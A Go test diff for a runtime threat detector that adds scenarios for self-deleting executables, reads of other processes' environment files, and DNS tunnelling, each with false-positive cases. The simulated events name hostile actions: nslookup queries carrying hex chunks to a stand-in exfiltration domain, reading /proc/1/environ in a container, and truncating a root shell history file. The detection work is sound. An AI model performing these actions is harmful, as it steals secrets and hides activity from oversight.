@@ -141,7 +141,9 @@ func scenarios() []scenario {
 		tor        = "Connection to a Tor directory authority"
 		torRelay   = "Tor relay reached by a directory authority"
 		rebind     = "DNS answer points at the metadata service"
-		dnsTunnel  = "DNS tunnel from one process"
+		dnsTunnel  = "DNS tunnel to one domain"
+		selfDelete = "Program deleted its own executable"
+		envRead    = "Another process's environment read"
 	)
 	s := []scenario{}
 	add := func(sc ...scenario) { s = append(s, sc...) }
@@ -608,6 +610,25 @@ func scenarios() []scenario {
 			evs(openEv(echo, "openat2", "/etc/ld.so.preload", oWRONLY|oCREAT, requested("/tmp/innocent"))), nil},
 		scenario{"the loader reading /etc/ld.so.preload is not", preload, false, evs(readEv(proc("ls", "/usr/bin/ls", "ls"), "/etc/ld.so.preload")), nil},
 	)
+	dropper := proc("kdevtmpfsi", "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi")
+	add(
+		scenario{"a program unlinks the file it runs from", selfDelete, true, evs(unlinkEv(dropper, "/tmp/kdevtmpfsi", inCtr)), nil},
+		scenario{"a program unlinking another file is not", selfDelete, false, evs(unlinkEv(dropper, "/tmp/kdevtmpfsi.lock")), nil},
+		scenario{"rm deleting a program that ran earlier is not (its own executable is rm)", selfDelete, false,
+			evs(unlinkEv(proc("rm", "/usr/bin/rm", "rm", "-f", "/tmp/kdevtmpfsi"), "/tmp/kdevtmpfsi")), nil},
+		scenario{"a failed unlink of its own executable is not", selfDelete, false, evs(unlinkEv(dropper, "/tmp/kdevtmpfsi", failed("EACCES", 13))), nil},
+	)
+	trEnv := proc("tr", "/usr/bin/tr", "tr", "\\0", "\\n")
+	add(
+		scenario{"a shell tool reads pid 1's environment in a container", envRead, true, evs(readEv(trEnv, "/proc/1/environ", inCtr)), nil},
+		scenario{"a thread's environment of another process", envRead, true, evs(readEv(trEnv, "/proc/4242/task/4243/environ")), nil},
+		scenario{"a process reading its own environment (by host pid) is not", envRead, false,
+			evs(readEv(trEnv, fmt.Sprintf("/proc/%d/environ", trEnv.Pid))), nil},
+		scenario{"a process reading its own environment (by pid in its namespace) is not", envRead, false,
+			evs(readEv(withNsPid(proc("cat", "/bin/cat", "cat", "/proc/self/environ"), 7), "/proc/7/environ", inCtr)), nil},
+		scenario{"ps showing environments is not", envRead, false, evs(readEv(proc("ps", "/usr/bin/ps", "ps", "eww"), "/proc/1/environ")), nil},
+		scenario{"reading another process's command line is not", envRead, false, evs(readEv(trEnv, "/proc/1/cmdline")), nil},
+	)
 	add(
 		scenario{"a history file opened with O_TRUNC is erased", history, true,
 			evs(openEv(sh("-c", ": > /root/.bash_history"), "openat", "/root/.bash_history", oWRONLY|oCREAT|oTRUNC)), nil},
@@ -989,11 +1010,29 @@ func scenarios() []scenario {
 		resolverEvs = append(resolverEvs, dnsQueryEv(coreDNS, long, inCtr, after(time.Duration(i)*200*time.Millisecond)))
 		shortEvs = append(shortEvs, dnsQueryEv(curlP, fmt.Sprintf("api%d.svc.cluster.local", i), after(time.Duration(i)*200*time.Millisecond)))
 	}
+	var loopEvs, shortLoopEvs, manyDomainEvs, reputationEvs, serviceEvs, clusterEvs []*vigilv1.Event
+	for i := 0; i < 24; i++ {
+		at := after(time.Duration(i) * 300 * time.Millisecond)
+		chunk := fmt.Sprintf("%016x%016x", uint64(i+1)*0x9e3779b97f4a7c15, uint64(i+7)*0xc2b2ae3d27d4eb4f)[:30]
+		nslookup := proc("nslookup", "/usr/bin/nslookup", "nslookup", chunk+".x.exfil-sink.net")
+		loopEvs = append(loopEvs, dnsQueryEv(nslookup, chunk+".x.exfil-sink.net", inCtr, at))
+		shortLoopEvs = append(shortLoopEvs, dnsQueryEv(nslookup, chunk[:16]+".x.exfil-sink.net", inCtr, at))
+		manyDomainEvs = append(manyDomainEvs, dnsQueryEv(curlP, fmt.Sprintf("%s.cdn%d.example.com", chunk, i%10)+fmt.Sprintf(".site%d.org", i), at))
+		reputationEvs = append(reputationEvs, dnsQueryEv(proc("clamd", "/usr/sbin/clamd", "clamd"), chunk+"ab.malware.hash.cymru.com", at))
+		clusterEvs = append(clusterEvs, dnsQueryEv(curlP, chunk+".headless.default.svc.cluster.local", at))
+		serviceEvs = append(serviceEvs, dnsQueryEv(curlP, fmt.Sprintf("prometheus-kube-prometheus-operator-%c.monitoring.svc.cluster.local", 'a'+i), at))
+	}
 	add(
 		scenario{"sixty distinct long names from one process in twelve seconds is a DNS tunnel", dnsTunnel, true, tunnelEvs, nil},
 		scenario{"CoreDNS forwarding the same names is not", dnsTunnel, false, resolverEvs, nil},
 		scenario{"many distinct short service names are not", dnsTunnel, false, shortEvs, nil},
-		scenario{"a handful of long names stays below the count", dnsTunnel, false, tunnelEvs[:20], nil},
+		scenario{"a handful of long names stays below the count", dnsTunnel, false, tunnelEvs[:19], nil},
+		scenario{"a loop that runs nslookup once per hex chunk is a DNS tunnel (every lookup a new process)", dnsTunnel, true, loopEvs, nil},
+		scenario{"a loop's short hex names with no long label are not", dnsTunnel, false, shortLoopEvs, nil},
+		scenario{"long names under many different domains are not", dnsTunnel, false, manyDomainEvs, nil},
+		scenario{"hash lookups in a malware reputation zone are not", dnsTunnel, false, reputationEvs, nil},
+		scenario{"long service names without digits are not", dnsTunnel, false, serviceEvs, nil},
+		scenario{"long hashed names in the cluster's own zone are not", dnsTunnel, false, clusterEvs, nil},
 	)
 	return s
 }
@@ -1163,7 +1202,9 @@ var wantType = map[string]string{
 	"Connection to a Tor directory authority":                     "UnauthorizedAccess:Runtime/TorClient",
 	"Tor relay reached by a directory authority":                  "UnauthorizedAccess:Runtime/TorRelay",
 	"DNS answer points at the metadata service":                   "UnauthorizedAccess:Runtime/MetadataDNSRebind",
-	"DNS tunnel from one process":                                 "Trojan:Runtime/DNSDataExfiltration",
+	"DNS tunnel to one domain":                                    "Trojan:Runtime/DNSDataExfiltration",
+	"Program deleted its own executable":                          "DefenseEvasion:Runtime/SelfDeletingExecutable",
+	"Another process's environment read":                          "CredentialAccess:Runtime/ProcessEnvironmentRead",
 }
 
 // guardDutySeverity is GuardDuty's default severity for each runtime type
